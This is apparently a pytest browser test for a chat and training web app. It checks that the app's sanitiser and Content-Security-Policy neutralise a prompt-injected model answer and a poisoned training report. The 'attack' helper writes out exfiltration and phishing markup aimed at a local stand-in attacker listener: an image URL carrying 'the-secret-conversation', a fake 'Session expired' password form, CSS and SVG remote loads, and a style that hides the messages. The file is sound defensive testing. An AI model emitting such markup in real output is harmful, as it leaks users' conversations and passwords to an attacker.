"""The web app against markup in model output, in the real browser (Debian's Chromium) on a live server: a
prompt-injected answer or training report with a remote image, a form, an input or a style renders without
them and nothing reaches the "remote" server (a listener on another loopback port); the page's
Content-Security-Policy blocks such loads even when markup gets past the sanitiser; the app still works."""

from __future__ import annotations

import json
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import httpx
import pytest

from helpers.server import free_port

CSP = "default-src 'self'; img-src 'self' data:; form-action 'none'; frame-ancestors 'none'"


@pytest.fixture
def listener():
    """A stand-in for the attacker's server, on 127.0.0.1: every request it gets is recorded."""
    seen = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self):
            seen.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "image/gif")
            self.end_headers()

        do_POST = do_GET

        def log_message(self, *args):
            pass

    server = ThreadingHTTPServer(("127.0.0.1", free_port()), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    server.seen = seen
    server.url = f"http://127.0.0.1:{server.server_port}"
    yield server
    server.shutdown()


def attack(url: str) -> str:
    return (f"Here is your answer, **in bold**.\n\n<img src=\"{url}/leak?conv=the-secret-conversation\" alt=\"chart\">\n\n"
            f"![pic]({url}/leak2?c=secret)\n\n<form action=\"{url}/phish\" method=\"post\">Session expired, log in:"
            f"<input name=\"password\" type=\"password\"><button>Log in</button></form>\n\n"
            f"<style>body {{ background: url({url}/css) }} .messages {{ display: none }}</style>\n\n"
            f"<svg><image href=\"{url}/svg\"/></svg><img srcset=\"{url}/srcset 2x\"><video poster=\"{url}/poster\"></video>"
            f"<a href=\"https://example.org\">a link</a>")


@pytest.fixture
def page(browser):
    context = browser.new_context(locale="en-US", viewport={"width": 1280, "height": 860})
    pg = context.new_page()
    pg.errors, pg.violations = [], []
    pg.on("pageerror", lambda e: pg.errors.append(str(e)))
    pg.on("console", lambda m: pg.violations.append(m.text) if "Content Security Policy" in m.text else None)
    pg.set_default_timeout(30_000)
    yield pg
    context.close()


def test_the_page_and_its_files_carry_the_policy(keyless):
    for path in ("/", "/app/main.js", "/app/app.css", "/app/vendor/purify.js"):
        r = httpx.get(keyless.url + path)
        assert r.status_code == 200
        assert r.headers["content-security-policy"].startswith(CSP), path
        assert r.headers["x-content-type-options"] == "nosniff"


def _no_markup(page, scope: str):
    for tag in ("img", "form", "input", "button", "style", "svg", "image", "video", "textarea"):
        assert page.locator(f"{scope} {tag}").count() == 0, tag


def test_a_prompt_injected_answer_renders_without_markup_or_remote_loads(page, keyless, listener):
    answer = attack(listener.url)

    def fake_model(route):  # the server's own reply shape, with the injected answer as the model's words
        events = [{"choices": [{"index": 0, "delta": {"content": answer[i:i + 40]}, "finish_reason": None}]}
                  for i in range(0, len(answer), 40)]
        events.append({"choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]})
        body = "".join(f"data: {json.dumps(e)}\n\n" for e in events) + "data: [DONE]\n\n"
        route.fulfill(status=200, body=body, headers={"Content-Type": "text/event-stream"})

    page.route("**/v1/chat/completions", fake_model)
    page.goto(keyless.url + "/?model=tiny:latest")
    page.wait_for_selector("#model-select option[value='tiny:latest']", state="attached")
    page.fill("#prompt", "Summarise our conversation.")
    page.press("#prompt", "Enter")
    page.wait_for_selector("#messages .message.assistant .stats")
    content = "#messages .message.assistant .content"
    assert "in bold" in page.locator(f"{content} strong").inner_text()
    assert "chart" in page.locator(content).inner_text()  # the image's words stay
    _no_markup(page, content)
    assert page.get_attribute(f"{content} a", "rel") == "noopener noreferrer"
    assert page.is_visible("#messages")  # the <style> did not hide the conversation
    page.reload()  # kept in the browser and drawn again
    page.wait_for_selector("#messages .message.assistant")
    _no_markup(page, content)
    page.wait_for_timeout(1000)
    assert listener.seen == [] and not page.errors


def test_the_policy_blocks_what_gets_past_the_sanitiser(page, keyless, listener):
    page.goto(keyless.url + "/")
    page.wait_for_selector("#model-select option", state="attached")
    blocked = page.evaluate("""(url) => new Promise((done) => {
        const seen = [];
        document.addEventListener("securitypolicyviolation", (e) => seen.push(e.violatedDirective));
        const img = document.createElement("img");
        img.src = url + "/direct";
        document.body.append(img);
        const script = document.createElement("script");
        script.textContent = "window.__ran = true";
        document.body.append(script);
        const style = document.createElement("style");
        style.textContent = "body { background: url(" + url + "/style) }";
        document.head.append(style);
        setTimeout(() => done({seen, ran: window.__ran === true}), 1000);
    })""", listener.url)
    assert not blocked["ran"]
    assert any(d.startswith("img-src") for d in blocked["seen"]) and any(d.startswith("script-src") for d in blocked["seen"])
    assert listener.seen == []


def test_the_evaluation_report_stylesheet_is_the_one_inline_style_allowed(page, keyless):
    from xuetu.evaluate.doc import CSS

    page.goto(keyless.url + "/")
    page.wait_for_selector("#model-select option", state="attached")
    styled = page.evaluate("""(css) => new Promise((done) => {
        const frame = document.createElement("iframe");
        frame.sandbox = "allow-same-origin";  // so the test can look inside; the app's frame has no permissions
        frame.srcdoc = "<style>" + css + "</style><style>p { color: rgb(255, 0, 0) }</style><table><tr><td>1</td></tr></table><p>x</p>";
        frame.onload = () => {
            const doc = frame.contentDocument;
            done([getComputedStyle(doc.querySelector("table")).borderCollapse,
                  getComputedStyle(doc.querySelector("p")).color]);
        };
        document.body.append(frame);
    })""", CSS)
    assert styled[0] == "collapse"  # the report's own stylesheet applies
    assert styled[1] != "rgb(255, 0, 0)"  # any other inline style does not


def test_a_training_report_renders_without_markup_or_remote_loads(page, serve, sec_home, listener):
    run = sec_home / "runs" / "evil-run"
    run.mkdir(parents=True)
    (run / "run.json").write_text(json.dumps({"status": "finished", "out": "evil:latest", "base": "tiny:latest",
                                              "method": "lora"}), encoding="utf-8")
    (run / "report.md").write_text("# Report\n\nbase against tuned\n\n" + attack(listener.url), encoding="utf-8")
    s = serve()
    page.goto(s.url + "/#train")
    page.click("#run-list button:has-text('evil:latest')")
    page.wait_for_selector("#run-detail .report")
    assert "base against tuned" in page.locator("#run-detail .report").inner_text()
    _no_markup(page, "#run-detail .report")
    page.wait_for_timeout(1000)
    assert listener.seen == [] and not page.errors


def test_the_app_works_under_the_policy(page, keyless):
    page.goto(keyless.url + "/?model=tiny:latest")
    page.wait_for_selector("#model-select option[value='tiny:latest']", state="attached")
    page.fill("#prompt", "Hello!")
    page.press("#prompt", "Enter")
    page.wait_for_selector("#messages .message.assistant .stats", timeout=120_000)
    for tab in ("kb", "train", "evals", "models"):  # the models tab last: its table is then on screen
        page.click(f"#tab-{tab}")
    page.wait_for_selector("#models-table td button:has-text('tiny:latest')")
    assert not page.errors and not page.violations, (page.errors, page.violations)
